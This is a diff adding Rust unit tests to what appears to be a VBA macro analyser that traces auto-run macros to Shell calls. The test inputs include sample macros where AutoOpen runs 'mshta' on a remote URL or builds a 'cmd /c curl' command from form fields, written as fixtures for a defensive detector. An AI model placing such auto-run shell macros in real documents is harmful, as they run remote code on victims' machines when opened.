@@ -253,3 +253,31 @@ fn functions_that_make_much_of_little_are_paid_for() {
     let said = lone(&format!("Sub a()\n{}End Sub\n", "x = String(60000, \"a\")\n".repeat(40_000)));
     assert!(said.problems.iter().any(|problem| problem.kind == crate::model::ProblemKind::Limit));
 }
+
+#[test]
+fn texts_are_followed_into_procedures() {
+    let source = "Sub AutoOpen()\nStage \"http://example.com/\" & \"a\"\nEnd Sub\nSub Stage(u)\nLaunch \"mshta \" & u\nEnd Sub\n\
+                  Sub Launch(c)\nShell c\nEnd Sub\n";
+    let said = lone(source);
+    assert_eq!(
+        observed(&said, "vba-open-to-execute"),
+        "AutoOpen → Stage → Launch → Shell \"mshta http://example.com/a\""
+    );
+    // Two calls with two texts: neither is taken.
+    let said = lone(&source.replace("End Sub\nSub Stage", "Stage \"b\"\nEnd Sub\nSub Stage"));
+    assert!(!ids(&said).contains(&"vba-open-to-execute"), "{:?}", ids(&said));
+}
+
+#[test]
+fn texts_of_forms_are_known() {
+    let parts = [super::program::Part {
+        name: "M",
+        sort: None,
+        source: "Sub AutoOpen()\nShell Panel.Label1.Caption & Panel.Box1\nEnd Sub\n",
+    }];
+    let strings = [("panel.label1.caption", "cmd /c curl "), ("panel.box1.value", "http://example.com/a")];
+    let strings = strings.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
+    let program = super::program::Program::with(&parts, &strings);
+    let shell = super::abilities::abilities(&program);
+    assert_eq!(shell[0].what, "Shell \"cmd /c curl http://example.com/a\" from Panel.Label1.Caption");
+}
